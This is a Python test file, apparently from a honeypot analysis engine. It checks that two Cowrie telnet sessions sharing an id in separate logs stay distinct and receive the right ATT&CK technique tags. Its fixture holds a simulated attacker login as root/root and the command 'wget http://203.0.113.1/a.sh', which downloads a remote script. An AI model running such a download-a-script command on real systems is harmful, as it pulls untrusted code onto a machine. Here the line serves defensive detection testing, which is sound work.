"""Sessions of the same id that meet on the way: two logs of one sensor, read at once by readers that know nothing

of each other. Nobody between the logs and the rows may take the one for the other: not the bus, which drops what it
has seen, not a batch, not the worker that is ahead of the recorder.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import text

from decnet.config import load_settings
from decnet.engine import Engine
from tests.unit.test_order_of_lines import DAY, START, line

pytestmark = pytest.mark.slow


def visit(start: float, address: str, command: str) -> list[bytes]:
    """One session of the id that comes again."""
    common: dict[str, Any] = {"src_ip": address}
    return [
        line("TT8", "session.connect", start, protocol="telnet", **common),
        line("TT8", "login.success", start + 1, username="root", password="root", **common),
        line("TT8", "command.input", start + 2, input=command, **common),
        line("TT8", "session.closed", start + 3, duration=3.0, **common),
    ]


@pytest.mark.parametrize("bus", ["memory", "nats"])
async def test_two_visits_with_one_id_in_two_logs_are_two(tmp_path: Path, bus: str) -> None:
    visits = {"198.51.100.1": "wget http://203.0.113.1/a.sh", "198.51.100.2": "crontab -l"}
    sensors = []
    for number, (address, command) in enumerate(visits.items()):
        log = tmp_path / f"{number}" / "cowrie.json"
        log.parent.mkdir()
        log.write_bytes(b"\n".join(visit(START + number * DAY, address, command)) + b"\n")
        sensors.append({"kind": "cowrie", "path": str(log)})
    settings = load_settings(
        data_dir=tmp_path / "data",
        bus={"type": bus},
        workers=("sensors", "recorder", "behave", "ttp", "attribution"),
        ttp_rule_store_type="filesystem",
        sensors=sensors,
    )
    engine = Engine(settings)
    await engine.start()
    try:
        assert await engine.until_idle(0.4) is None
        async with engine.repo.db.read() as session:
            sessions = (
                await session.execute(
                    text(
                        "SELECT s.session_id, a.ip, c.command_text FROM session s JOIN command c USING (session_id)"
                        " JOIN attacker a ON a.attacker_uuid = s.attacker_uuid ORDER BY a.ip"
                    )
                )
            ).all()
            tags = (
                await session.execute(
                    text(
                        "SELECT DISTINCT t.session_id, a.ip, t.technique_id FROM ttp_tag t"
                        " JOIN attacker a ON a.attacker_uuid = t.attacker_uuid WHERE t.source_kind = 'command'"
                    )
                )
            ).all()
    finally:
        await engine.stop(5.0)
    assert [(ip, command) for _, ip, command in sessions] == list(visits.items())
    ids = {ip: session_id for session_id, ip, _ in sessions}
    assert len(set(ids.values())) == 2
    assert {(session_id, ip) for session_id, ip, _ in tags} == {(ids[ip], ip) for ip in visits}
    techniques = {ip: {t for _, who, t in tags if who == ip} for ip in visits}
    assert "T1105" in techniques["198.51.100.1"]
    assert "T1105" not in techniques["198.51.100.2"]
    assert "T1007" in techniques["198.51.100.2"]
    assert "T1007" not in techniques["198.51.100.1"]
